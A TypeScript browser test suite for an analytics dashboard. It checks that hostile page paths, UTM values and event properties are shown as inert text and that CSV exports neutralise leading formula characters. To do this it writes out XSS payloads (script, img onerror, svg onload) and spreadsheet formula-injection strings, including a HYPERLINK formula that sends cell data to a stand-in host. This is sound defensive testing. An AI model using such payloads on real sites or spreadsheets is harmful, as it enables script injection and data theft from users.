/** Hostile input is shown as plain text. */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { before, describe, test } from 'node:test';
import { BEARER, FIREFOX } from '../fixtures/any-server.ts';
import { BROWSER_MISSING, browserProgram } from '../fixtures/browser.ts';
import { closeQuietly, Dashboard, keepScreenshot, overflow, settled } from '../fixtures/dashboard.ts';

const SITE = 'hostile.example';
const SCRIPT = '/<script>window.owned=1</script><img src=x onerror=window.owned=1>';
/** Written from right to left. A character that reverses others is refused: `test/attacks/hidden-characters.test.ts`. */
const REVERSED = '/gnp.exe/\u05d0\u05d1\u05d2/\u0645\u0631\u062d\u0628\u0627';
const LONG = `/${'long/'.repeat(1600)}end`;
const EMOJI = '/👩‍👩‍👧‍👦/🏴󠁧󠁢󠁳󠁣󠁴󠁿/%F0%9F%98%80';
const MARKS = '/a*b|c\\d"e\'f';
const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)'];
const PATHS = [SCRIPT, REVERSED, LONG, EMOJI, MARKS];
/** As the page shows them: characters instead of their percent-encoding. */
const SHOWN = PATHS.map((path) => path.replace('%F0%9F%98%80', '😀'));

const program = await browserProgram();

describe('hostile hits', { skip: program === undefined && BROWSER_MISSING }, async () => {
  if (program === undefined) return;
  const dashboard = await Dashboard.start(program);

  before(async () => {
    const base = {
      site: SITE,
      referrer: '',
      address: '2.21.17.9',
      user_agent: FIREFOX,
      language: 'en',
      time: new Date().toISOString(),
    };
    const { server } = dashboard;
    const bodies = [
      ...PATHS.map((path) => ({ ...base, path })),
      ...FORMULAS.map((name) => ({
        ...base,
        path: '/formulas',
        name,
        props: { [name]: name, '<b>key</b>': '<i>value</i>' },
      })),
      {
        ...base,
        path: '/?utm_source=<svg onload=window.owned=1>&utm_campaign=%3Dcmd',
        url: 'https://hostile.example/?utm_source=%3Csvg%20onload%3Dwindow.owned%3D1%3E&utm_campaign=%3Dcmd',
      },
    ];
    const { accepted, errors } = JSON.parse((await server.post('/api/v1/hits', bodies, BEARER)).text) as {
      accepted: number;
      errors: unknown[];
    };
    assert.deepEqual(errors, []);
    assert.equal(accepted, bodies.length);
  });

  test('hostile values do not run, become markup, or break the page', async () => {
    const open = await dashboard.open(`?period=day&site=${SITE}`);
    const { page } = open;
    const pages = page.getByRole('region', { name: 'Pages', exact: true });
    await pages.getByText(SCRIPT).waitFor();
    for (const path of SHOWN) await pages.getByText(path, { exact: true }).waitFor();
    for (const tab of ['Referrers', 'Campaigns', 'UTM sources', 'Properties']) {
      await page.getByRole('tab', { name: tab }).click();
    }
    await settled(page);
    assert.equal(await page.evaluate(() => 'owned' in globalThis), false);
    assert.equal(await page.locator('main script, main img:not(.flag), main svg[onload]').count(), 0);
    assert.equal(await overflow(page), 0);
    await keepScreenshot(page, 'hostile');
    await closeQuietly(open);
  });

  test('each value can be a filter, even with special characters, or longer than a filter', async () => {
    const open = await dashboard.open(`?period=day&site=${SITE}&compare=none`);
    const { page } = open;
    const pages = page.getByRole('region', { name: 'Pages', exact: true });
    for (const path of SHOWN) {
      const row = pages.getByRole('button').filter({ hasText: path });
      await row.click();
      await page.locator('.chip').waitFor();
      await settled(page);
      assert.equal(await pages.locator('.rows tbody tr').count(), 1, path.slice(0, 40));
      await row.click();
      await page.locator('.chip').waitFor({ state: 'detached' });
      await pages.getByText(MARKS, { exact: true }).waitFor();
      await pages.getByText(SCRIPT, { exact: true }).waitFor();
    }
    await closeQuietly(open);
  });

  test('no cell of an exported table begins like a formula', async () => {
    const open = await dashboard.open(`?period=day&site=${SITE}`);
    const { page } = open;
    await page.getByRole('button', { name: 'Export' }).click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('menuitemradio', { name: 'Tables as CSV' }).click(),
    ]);
    const text = await readFile(await download.path(), 'utf8');
    for (const name of FORMULAS) assert.ok(text.includes(`'${name.replaceAll('"', '""')}`), name);
    assert.doesNotMatch(text, /(?:^|,|\n)"?[=+\-@]/);
    await closeQuietly(open);
  });
});
